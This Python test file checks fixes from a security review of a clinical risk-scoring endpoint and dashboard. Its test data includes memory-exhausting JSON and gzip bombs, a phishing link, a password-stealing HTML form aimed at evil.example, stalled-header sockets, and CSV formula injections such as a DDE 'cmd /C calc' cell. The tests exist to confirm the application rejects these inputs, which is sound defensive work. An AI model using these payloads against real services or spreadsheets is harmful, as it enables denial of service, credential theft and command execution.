"""Regression tests for the second adversarial pass (issue 22, findings 2-11).

Everything runs for real: the project's CLIs (their main, in-process), azmlinfsrv with model/serving/score.py on
loopback, the Streamlit app through AppTest, raw sockets as hostile clients, memory as the RSS of
the real process (psutil). Nothing of the project is mocked.
"""

from __future__ import annotations

import contextlib
import csv
import gzip
import hashlib
import io
import json
import os
import re
import socket
import stat
import threading
import time
import tomllib
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler
from pathlib import Path

import numpy as np
import psutil
import pytest
import requests
from streamlit.testing.v1 import AppTest

from dashboard.ui import downloads, uploads
from deploy import server_settings
from deploy.local_endpoint import LocalEndpoint, serve
from model.core import artifact, exit_codes, schema
from model.serving import batch_score, datacollect, score
from model.serving.client import EndpointClient, EndpointConfig, EndpointContractError
from model.serving.lookup import MAX_RECORDS, example_record
from tests.app_pages import app_test, open_page
from tests.conftest import REPO_ROOT
from tests.inprocess import Ran, run_main
from tests.loopback import serving


def run_cli(module: str, *args: str) -> Ran:
    """`python -m module args...`, its main in-process (tests/inprocess.py)."""
    return run_main(module, *args)


# --- finding 2: --out never deletes what it did not write ------------------------------------------


def _sentinels(folder: Path) -> dict[str, str]:
    """Files a user keeps in a folder: collected patient records and a nested note. Returns path -> sha256."""
    (folder / "collected").mkdir(parents=True)
    (folder / "collected" / "scored-1.jsonl").write_text('{"age_group": "80+ Years"}\n')
    (folder / "notes.txt").write_text("do not delete\n")
    return _digest(folder)


def _digest(folder: Path) -> dict[str, str]:
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


@pytest.mark.parametrize("cli", ["train", "recalibrate"])
def test_out_refuses_a_folder_that_is_not_a_model_and_deletes_nothing(
    cli: str, model_dir: Path, synthetic_csv: Path, tmp_path: Path
) -> None:
    folder = tmp_path / "artifacts"
    before = _sentinels(folder)
    (folder / "model").mkdir()  # `--out artifacts` instead of `--out artifacts/model`
    if cli == "train":
        proc = run_cli("model.train", "--data", str(synthetic_csv), "--out", str(folder), "--quiet")
    else:
        proc = run_cli(
            "model.recalibrate", "--model", str(model_dir), "--data", str(synthetic_csv), "--out", str(folder)
        )
    assert proc.returncode == exit_codes.BAD_INPUT, (proc.returncode, proc.stderr[-2000:])
    assert "not a model folder" in proc.stderr and "collected/" in proc.stderr and "notes.txt" in proc.stderr
    assert "Traceback" not in proc.stderr
    assert _digest(folder) == before and (folder / "model").is_dir()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["artifacts"]  # no staging folder left behind


def test_out_refuses_a_file_and_a_model_folder_with_extra_files(model_dir: Path, tmp_path: Path) -> None:
    target = tmp_path / "model"
    _copy_model(model_dir, target)
    (target / "evaluation" / "patients.csv").write_text("age_group\n80+ Years\n")
    with pytest.raises(artifact.OutDirError, match=r"evaluation/patients\.csv"):
        artifact.check_out_dir(target)
    (tmp_path / "file.csv").write_text("x\n")
    with pytest.raises(artifact.OutDirError, match="is a file"):
        artifact.check_out_dir(tmp_path / "file.csv")


def _copy_model(source: Path, target: Path) -> None:
    for path in sorted(source.rglob("*")):
        if path.is_file():
            (target / path.relative_to(source)).parent.mkdir(parents=True, exist_ok=True)
            (target / path.relative_to(source)).write_bytes(path.read_bytes())


def _write(out: Path, model_dir: Path, tables: dict | None = None) -> Path:
    """write_artifact with the tables of a real model (a card marked so the test can tell versions apart)."""
    card = artifact.load_card(model_dir)
    return artifact.write_artifact(
        out,
        risk_tables={m: artifact.load_risk_table(model_dir, m) for m in artifact.trained_models(model_dir)},
        card={**card, "model_version": f"test-{len(list(out.parent.iterdir()))}"},
        card_markdown="# test\n",
        tables=tables if tables is not None else {"roc": artifact.load_table(model_dir, "roc")},
        training_distribution=artifact.load_training_distribution(model_dir),
    )


def test_replacing_a_model_keeps_the_old_one_until_the_new_one_is_complete(model_dir: Path, tmp_path: Path) -> None:
    out = tmp_path / "model"
    _copy_model(model_dir, out)
    neighbour = tmp_path / ".model-previous"  # the name the old code emptied without looking
    neighbour.mkdir()
    (neighbour / "keep.txt").write_text("mine\n")
    old = _digest(out)
    with pytest.raises(ValueError, match="unknown evaluation table"):
        _write(out, model_dir, tables={"not-a-table": artifact.load_table(model_dir, "roc")})
    assert _digest(out) == old  # a failed write leaves the earlier model as it was
    _write(out, model_dir)
    assert artifact.load_card(out)["model_version"].startswith("test-")
    assert (neighbour / "keep.txt").read_text() == "mine\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == [".model-previous", "model"]  # nothing else left


def test_an_empty_folder_takes_the_model_in_place(model_dir: Path, tmp_path: Path) -> None:
    out = tmp_path / "job-output"  # e.g. an Azure ML job's output mount: exists, empty, cannot be renamed
    out.mkdir()
    _write(out, model_dir)
    assert artifact.has_model(out)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["job-output"]


def test_the_refusal_names_a_few_entries_and_counts_the_rest(tmp_path: Path) -> None:
    folder = tmp_path / "repo"
    folder.mkdir()
    for i in range(8):
        (folder / f"f{i}.py").write_text("")
    with pytest.raises(artifact.OutDirError, match="and 3 more") as err:
        artifact.check_out_dir(folder)
    assert "\n" not in str(err.value) and "f0.py" in str(err.value)


# --- finding 11: collected files are private -------------------------------------------------------


def test_collected_files_are_0600_in_a_0700_folder_also_after_rotation(tmp_path: Path) -> None:
    folder = tmp_path / "collected"
    folder.mkdir(mode=0o755)
    stale = folder / f"scored-{socket.gethostname()}-{os.getpid()}.jsonl"
    stale.write_text("")  # left by an earlier run with the old 0644 mode
    stale.chmod(0o644)
    old_umask = os.umask(0o022)  # the usual umask: what made the files world-readable
    try:
        table = np.linspace(0.001, 0.9, schema.combination_count())
        env = {datacollect.ENV_DIR: str(folder), datacollect.ENV_FILE_MB: "1"}
        collector = datacollect.from_environment("v-test", table, environ=env)
        for r in range(3):  # ~1.1 MB per request: every request rotates
            collector.record(f"req-{r}", [i % schema.combination_count() for i in range(4_000)])
        collector.close()
    finally:
        os.umask(old_umask)
    files = sorted(folder.iterdir())
    assert len(files) >= 3, files
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert {p.name: stat.S_IMODE(p.stat().st_mode) for p in files} == {p.name: 0o600 for p in files}


# --- peak memory of a real process ------------------------------------------------------------------


class PeakRss:
    """Samples the summed RSS of processes (and their children) every few ms; `growth_mb` is peak minus start."""

    def __init__(self, *pids: int, every_s: float = 0.002, children: bool = True) -> None:
        self._procs = [psutil.Process(pid) for pid in pids]
        if children:
            self._procs += [c for p in list(self._procs) for c in p.children(recursive=True)]
        self._every_s = every_s
        self._stop = threading.Event()
        self.start_mb = self.peak_mb = self._rss_mb()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _rss_mb(self) -> float:
        total = 0
        for proc in self._procs:
            with contextlib.suppress(psutil.NoSuchProcess):
                total += proc.memory_info().rss
        return total / 2**20

    def _run(self) -> None:
        while not self._stop.is_set():
            self.peak_mb = max(self.peak_mb, self._rss_mb())
            time.sleep(self._every_s)

    def __enter__(self) -> PeakRss:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join()
        self.peak_mb = max(self.peak_mb, self._rss_mb())

    @property
    def growth_mb(self) -> float:
        return self.peak_mb - self.start_mb


# --- finding 5: item bombs are refused before json.loads --------------------------------------------


@pytest.fixture(scope="module")
def fresh_endpoint(model_dir: Path) -> Iterator[LocalEndpoint]:
    """An endpoint of its own, so the memory it has touched is this module's requests only."""
    with serve(model_dir, env={"RISK_DATA_COLLECTION": "off"}, workers=1) as endpoint:
        with requests.Session() as session:
            for _ in range(20):  # every worker thread warm before anything is measured
                session.post(endpoint.scoring_url, json={"data": [example_record()]}, timeout=10)
        yield endpoint


def _body_at_the_limit(item: bytes, items: int | None = None) -> bytes:
    """{"data": [item, item, ...]} as close to the endpoint's body limit as `items` (default: as many as fit)."""
    head, tail = b'{"data":[', b"]}"
    count = items or (score.MAX_BODY_BYTES - len(head) - len(tail)) // (len(item) + 1)
    return head + b",".join([item] * count) + tail


# Built when their test runs, not at import: six 24 MB bodies cost every xdist worker 2.5 s of collection.
ITEM_BOMBS: dict[str, Callable[[], bytes]] = {
    "empty lists": lambda: _body_at_the_limit(b"[]"),  # 11 million lists: ~0.8 GB before the fix
    "empty objects": lambda: _body_at_the_limit(b"{}"),
    "short strings": lambda: _body_at_the_limit(b'"ab"'),
    "numbers": lambda: _body_at_the_limit(b"1000"),
    # the most items the pre-parse check lets through, each as long as the body limit allows
    "longest strings under the check": lambda: _body_at_the_limit(b'"' + b"x" * 76 + b'"', items=400_000),
    "one long string": lambda: b'{"data":["' + b"x" * (score.MAX_BODY_BYTES - 14) + b'"]}',
}


@pytest.mark.parametrize("name", list(ITEM_BOMBS))
def test_a_body_at_the_size_limit_costs_the_endpoint_under_100_mb(fresh_endpoint: LocalEndpoint, name: str) -> None:
    body = ITEM_BOMBS[name]()
    assert len(body) <= score.MAX_BODY_BYTES
    time.sleep(0.3)  # let the previous request's memory settle
    with PeakRss(fresh_endpoint.process.pid) as rss:
        started = time.perf_counter()
        response = requests.post(fresh_endpoint.scoring_url, data=body, timeout=60)
        seconds = time.perf_counter() - started
    assert response.status_code == 400, response.text[:300]
    assert "records" in response.json()["error"] or "object" in response.json()["error"]
    assert rss.growth_mb < 100, f"{name}: the workers grew by {rss.growth_mb:.0f} MB ({seconds:.2f} s)"
    assert seconds < 5, seconds


def test_a_request_just_over_the_record_limit_still_gets_the_record_message(fresh_endpoint: LocalEndpoint) -> None:
    response = requests.post(
        fresh_endpoint.scoring_url, json={"data": [example_record()] * (MAX_RECORDS + 1)}, timeout=60
    )
    assert response.status_code == 400 and f"at most {MAX_RECORDS}" in response.json()["error"]


# --- finding 6: query parameters never become Markdown ---------------------------------------------

PHISH_LINK = "[click to re-authenticate](http://127.0.0.1:5101/phish)"
TRACKING_IMAGE = "![](//127.1:5101/t1)"
HOSTILE_MARKERS = ("127.0.0.1:5101", "127.1:5101", "evil.example", "alarm", "bold")


def _live_markup(text: str) -> bool:
    """True if `text` holds markup once its backslash escapes are removed: '[' (a link or an image), '<' (HTML)."""
    bare = re.sub(r"\\.", "", text, flags=re.DOTALL)
    return "[" in bare or "<" in bare


def _shown(at: AppTest) -> list[str]:
    """The Markdown source of every text element on the page (what the browser renders)."""
    kinds = ("error", "warning", "info", "success", "markdown", "caption", "subheader", "title")
    return [str(getattr(e, "value", "")) for kind in kinds for e in at.get(kind)]


def test_query_parameters_reach_the_banner_as_literal_text(dashboard_env: str) -> None:
    at = app_test()
    at.query_params[f"icu.{PHISH_LINK}"] = "1"
    at.query_params["threshold"] = TRACKING_IMAGE
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    warnings = [w.value for w in at.warning]
    assert any("threshold" in w and "not a number" in w for w in warnings), warnings
    assert any("not an ICU input" in w and "click to re" in w for w in warnings), warnings
    quoting = [text for text in _shown(at) if any(m in text.replace("\\", "") for m in HOSTILE_MARKERS)]
    assert quoting and not any(_live_markup(text) for text in quoting), quoting


# --- finding 7: a hostile endpoint injects nothing and cannot fill the dashboard's memory ----------

EVIL_FORM = "<form action=//evil.example/steal><input type=password name=pw></form>"
EVIL_PERIOD = f"first wave {PHISH_LINK} {TRACKING_IMAGE} <b>bold</b> :red[alarm]"


def _hostile_handler(top: dict, result: dict, stream_bytes: int = 0) -> type[BaseHTTPRequestHandler]:
    """An endpoint that answers every record with `result` under `top`, or streams `stream_bytes` of JSON."""

    class Hostile(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.0"  # the body ends when the connection closes: no Content-Length to check

        def do_GET(self) -> None:
            self._send(b"Healthy")

        def do_POST(self) -> None:
            payload = json.loads(self.rfile.read(int(self.headers.get("Content-Length") or 0)) or b"{}")
            answer = {**top, "results": [dict(result) for _ in payload.get("data", [])]}
            self._send(json.dumps(answer).encode())

        def _send(self, body: bytes) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.end_headers()
            with contextlib.suppress(OSError):  # the client hangs up once it has read enough
                if stream_bytes:
                    self.wfile.write(b'{"model_version": "v", "results": [')
                    chunk = b"[]," * (1 << 20)
                    for _ in range(stream_bytes // len(chunk)):
                        self.wfile.write(chunk)
                else:
                    self.wfile.write(body)

        def log_message(self, *args: object) -> None:
            pass

    return Hostile


@pytest.fixture
def hostile_env(monkeypatch: pytest.MonkeyPatch, model_dir: Path) -> Callable[[str], None]:
    """Point the app at a given endpoint URL and the session's model; no key or auth from the shell."""
    for name in ("RISK_ENDPOINT_KEY", "RISK_ENDPOINT_AUTH", "RISK_ENDPOINT_DEPLOYMENT", "RISK_ENDPOINT_TIMEOUT"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("RISK_MODEL_DIR", str(model_dir))
    return lambda url: monkeypatch.setenv("RISK_ENDPOINT_URL", url)


GOOD_RESULT = {"probability": 0.5, "risk_band": "very high", "interval": [0.4, 0.6], "model": "intake"}


@pytest.mark.parametrize(
    ("top", "result"),
    [
        pytest.param({"model_version": EVIL_FORM}, GOOD_RESULT, id="model_version"),
        pytest.param({"model_version": "v1"}, {**GOOD_RESULT, "risk_band": EVIL_FORM}, id="risk_band"),
        pytest.param({"model_version": "v1", "data_period": EVIL_PERIOD}, GOOD_RESULT, id="data_period"),
    ],
)
def test_an_endpoints_words_never_become_markup(hostile_env: Callable[[str], None], top: dict, result: dict) -> None:
    with serving(_hostile_handler(top, result), daemon_threads=True) as url:
        hostile_env(url)
        at = open_page("patient_risk.py")
        at.selectbox(key="intake.age_group").select("40 - 49 Years").run()  # the form opens empty: age first
        at.button(key="intake.score").click().run()
    assert not at.exception, [e.value for e in at.exception]
    for html in at.html:
        assert "<form" not in html.value and "<input" not in html.value, html.value
    quoting = [text for text in _shown(at) if any(m in text.replace("\\", "") for m in HOSTILE_MARKERS)]
    assert not any(_live_markup(text) for text in quoting), quoting
    if "data_period" in top:  # a valid answer: the period is shown, as text
        assert any("first wave" in i.value for i in at.info), [i.value for i in at.info]
    else:  # a version or band outside the contract is refused, and said so
        assert any("scoring contract" in text for text in _shown(at)), _shown(at)


def test_a_huge_reply_is_not_read_and_the_client_stays_small(hostile_env: Callable[[str], None]) -> None:
    with serving(_hostile_handler({}, {}, stream_bytes=512 << 20), daemon_threads=True) as url:
        client = EndpointClient(EndpointConfig(scoring_url=url, timeout_s=10.0))
        with PeakRss(os.getpid(), children=False) as rss:
            health = client.health()
            with pytest.raises(EndpointContractError, match="more than"):
                client.score([example_record()] * 100)
    assert not health.ok and "more than" in health.detail, health.detail
    assert rss.growth_mb < 50, f"the client grew by {rss.growth_mb:.0f} MB reading a hostile reply"


# --- finding 3: a gzip bomb on the Batch scoring page ----------------------------------------------

BOMB_ROWS, BOMB_CELL = 1_200, 512 << 10  # 600 MB unpacked from a file of under 3 MB


def _cdc_rows(n: int, extra: str = "") -> list[str]:
    """`n` valid CDC rows (model inputs + death_yn), each followed by `extra` cells."""
    row = "80+ Years,Female,Laboratory-confirmed case,Yes,Unknown,Unknown,Yes"
    return [f"{row}{extra}" for _ in range(n)]


CDC_HEADER = "age_group,sex,current_status,medcond_yn,hosp_yn,icu_yn,death_yn"


@pytest.fixture(scope="module")
def gzip_bomb(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """A .csv.gz whose every row carries a 512 KiB extra cell: small to upload, 600 MB to unpack."""
    path = tmp_path_factory.mktemp("bomb") / "bomb.csv.gz"
    cell = "x" * BOMB_CELL
    with gzip.open(path, "wt", compresslevel=1, encoding="utf-8") as handle:
        handle.write(f"{CDC_HEADER},note\n")
        for line in _cdc_rows(BOMB_ROWS, f",{cell}"):
            handle.write(line + "\n")
    return path.read_bytes()


def test_a_gzip_bomb_stops_at_the_unpacked_limit_and_memory_stays_bounded(dashboard_env: str, gzip_bomb: bytes) -> None:
    assert len(gzip_bomb) < 4 << 20  # like the finding's 3.3 MB file
    at = open_page("batch_scoring.py", timeout=300)
    with PeakRss(os.getpid(), children=False) as rss:
        at.file_uploader[0].upload("cases.csv.gz", gzip_bomb).run()
        at.button(key="batch.score").click().run()
    assert not at.exception, [e.value for e in at.exception]
    errors = [e.value.replace("\\", "") for e in at.error]  # as shown: without the Markdown escapes
    assert any("unpacks to more than 256 MB" in e and "model.batch_score" in e for e in errors), errors
    assert rss.growth_mb < 300, f"the dashboard grew by {rss.growth_mb:.0f} MB on a {len(gzip_bomb):,}-byte upload"


def test_the_page_keeps_bounded_columns_and_its_downloads_are_neutralised(dashboard_env: str) -> None:
    notes = [f"n{i}" for i in range(8)]
    valid = ["80+ Years", "Female", "Laboratory-confirmed case", "Yes", "Unknown", "Unknown", "Yes"]
    hostile = ['=HYPERLINK("http://evil.example")', "Female", "Laboratory-confirmed case", "No", "No", "No", "No"]
    sink = io.StringIO()
    writer = csv.writer(sink, lineterminator="\n")
    writer.writerow([*CDC_HEADER.split(","), *notes])
    writer.writerows([[*valid, "@SUM(1+1)", *["w" * 1_000] * 7] for _ in range(50)])
    writer.writerow([*hostile, "-2+3", *["w" * 1_000] * 7])
    at = open_page("batch_scoring.py", timeout=120)
    at.file_uploader[0].upload("cases.csv", sink.getvalue().encode()).run()
    at.button(key="batch.score").click().run()
    assert not at.exception and not at.error, [e.value for e in [*at.exception, *at.error]]
    result = at.session_state["batch.result"]
    scored, rejected = result["scored"], result["rejected"]
    kept = [
        "row_number",
        *CDC_HEADER.split(","),
        *notes[:5],
        *batch_score.OUTPUT_COLUMNS,
    ]
    assert scored.column_names == kept and rejected.num_rows == 1
    assert max(len(v) for v in scored.column("n1").to_pylist()) == batch_score.PassThrough().max_chars
    for table in (scored, rejected):
        cells = _csv_cells(downloads.csv_download(table)())
        assert cells and not [c for c in cells if c[:1] in FORMULA_STARTS], cells[:20]
    assert "'=HYPERLINK" in downloads.csv_download(rejected)().decode()


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8"))) for cell in row]


# --- finding 8: formula cells in the command-line tool's CSV files --------------------------------


def test_batch_score_neutralises_formula_cells_in_scored_and_rejects(model_dir: Path, tmp_path: Path) -> None:
    formulas = ['=HYPERLINK("http://evil.example","x")', "@SUM(1+1)", "=cmd|' /C calc'!A0", "+1", "-2+3", "\tx"]
    valid = ["80+ Years", "Female", "Laboratory-confirmed case", "Yes", "Unknown", "Unknown", "Yes"]
    data = tmp_path / "cases.csv"
    with data.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle, lineterminator="\n")
        writer.writerow([*CDC_HEADER.split(","), "note"])
        writer.writerows([*valid, formula] for formula in formulas)
        writer.writerow(['=HYPERLINK("http://evil.example")', *valid[1:], "=1+1"])  # a reject
    out = tmp_path / "scored.csv"
    proc = run_cli(
        "model.batch_score", "--data", str(data), "--out", str(out), "--model-dir", str(model_dir), "--quiet"
    )
    assert proc.returncode == 0, proc.stderr
    for path in (out, tmp_path / "scored.rejects.csv"):
        cells = _csv_cells(path.read_bytes())
        assert not [c for c in cells if c[:1] in FORMULA_STARTS], (path.name, cells)
    assert f"'{formulas[0]}" in _csv_cells(out.read_bytes())


# --- finding 4 (the app's part): what one upload may cost ------------------------------------------


def test_the_server_upload_cap_is_what_a_batch_needs_and_the_pages_state_it() -> None:
    config = tomllib.loads((REPO_ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["server"]["maxUploadSize"] == uploads.MAX_UPLOAD_MB <= 64
    rows_gzipped = uploads.MAX_UPLOAD_MB * 2**20 / (REPO_ROOT / "data" / "cdc_first_wave_500k.csv.gz").stat().st_size
    assert rows_gzipped * 500_000 > 1_000_000  # a million CDC rows fit as .csv.gz (the page's row limit)


# --- finding 9: stalled headers --------------------------------------------------------------------

HEADER_TIMEOUT_S = 2.0  # the header deadline in this test (production: 5 s)


def test_stalled_headers_are_cut_off_and_health_checks_answer(model_dir: Path) -> None:
    env = {"RISK_DATA_COLLECTION": "off", "RISK_HEADER_READ_TIMEOUT_S": str(HEADER_TIMEOUT_S)}
    # One worker, so the health check cannot land on another worker that happens to have free threads.
    with serve(model_dir, env=env, workers=1) as endpoint:
        stalled = []
        try:
            for _ in range(2 * server_settings.THREADS_PER_WORKER):  # every thread held, and as many queued
                sock = socket.create_connection((endpoint.host, endpoint.port), timeout=30)
                sock.sendall(b"POST /score HTTP/1.1\r\nHost: x\r\nContent-Type: appl")  # headers never finished
                stalled.append(sock)
            time.sleep(0.5)
            started = time.perf_counter()
            response = requests.get(endpoint.health_url, timeout=HEADER_TIMEOUT_S + 8)
            waited = time.perf_counter() - started
            assert response.status_code == 200
            assert waited < HEADER_TIMEOUT_S + 3, f"the health check waited {waited:.1f} s"
            stalled[0].settimeout(5)
            assert stalled[0].recv(1024) == b""  # the server closed the stalled connection
            assert requests.post(endpoint.scoring_url, json={"data": [example_record()]}, timeout=5).ok
        finally:
            for sock in stalled:
                sock.close()
